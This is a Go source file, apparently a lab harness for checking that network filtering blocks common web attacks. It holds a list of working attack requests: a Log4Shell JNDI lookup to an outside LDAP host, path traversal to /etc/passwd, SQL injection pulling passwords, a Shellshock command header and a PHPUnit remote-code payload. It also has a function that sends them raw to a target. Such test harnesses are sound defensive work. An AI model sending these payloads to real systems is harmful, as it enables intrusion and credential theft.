package lab

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"strings"
	"time"
)

// HTTPAttack is one malicious request. Rules of the open sets know them all.
type HTTPAttack struct {
	Name   string
	Method string
	Path   string
	Header map[string]string
	Body   string
}

// HTTPAttacks are requests that scanners make all day.
func HTTPAttacks() []HTTPAttack {
	return []HTTPAttack{
		{Name: "log4shell", Method: "GET", Path: "/?x=${jndi:ldap://203.0.113.66:1389/a}", Header: map[string]string{"User-Agent": "${jndi:ldap://203.0.113.66:1389/ua}"}},
		{Name: "traversal", Method: "GET", Path: "/cgi-bin/..%2f..%2f..%2f..%2fetc/passwd"},
		{Name: "passwd", Method: "GET", Path: "/download?file=../../../../etc/passwd"},
		{Name: "sqli", Method: "GET", Path: "/item?id=1%20UNION%20SELECT%20user,password%20FROM%20users--"},
		{Name: "shellshock", Method: "GET", Path: "/cgi-bin/status", Header: map[string]string{"User-Agent": "() { :;}; /bin/bash -c 'id'"}},
		{Name: "phpunit", Method: "POST", Path: "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", Body: "<?php system('id'); ?>"},
		{Name: "scanner", Method: "GET", Path: "/", Header: map[string]string{"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}},
	}
}

// Send makes the request from the namespace at host and reads the answer. An error is what a blocked attacker sees: a reset or a
// timeout.
func (a HTTPAttack) Send(ctx context.Context, from *Namespace, to netip.AddrPort, timeout time.Duration) error {
	ctx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()
	conn, err := from.Dial(ctx, "tcp", to.String())
	if err != nil {
		return fmt.Errorf("lab: attack %s: %w", a.Name, err)
	}
	defer conn.Close()
	deadline, _ := ctx.Deadline()
	if err := conn.SetDeadline(deadline); err != nil {
		return fmt.Errorf("lab: attack %s: %w", a.Name, err)
	}
	if _, err := io.WriteString(conn, a.text(to)); err != nil {
		return fmt.Errorf("lab: attack %s: %w", a.Name, err)
	}
	answer, err := io.ReadAll(conn)
	if err != nil {
		return fmt.Errorf("lab: attack %s: %w", a.Name, err)
	}
	if len(answer) == 0 {
		return fmt.Errorf("lab: attack %s: no answer: %w", a.Name, io.ErrUnexpectedEOF)
	}
	return nil
}

// text is the request as it goes over the wire: net/http would refuse or mend some of it.
func (a HTTPAttack) text(to netip.AddrPort) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n", a.Method, a.Path, to)
	if a.Header["User-Agent"] == "" {
		b.WriteString("User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n")
	}
	for name, value := range a.Header {
		fmt.Fprintf(&b, "%s: %s\r\n", http.CanonicalHeaderKey(name), value)
	}
	if a.Body != "" {
		fmt.Fprintf(&b, "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n", len(a.Body))
	}
	b.WriteString("\r\n" + a.Body)
	return b.String()
}
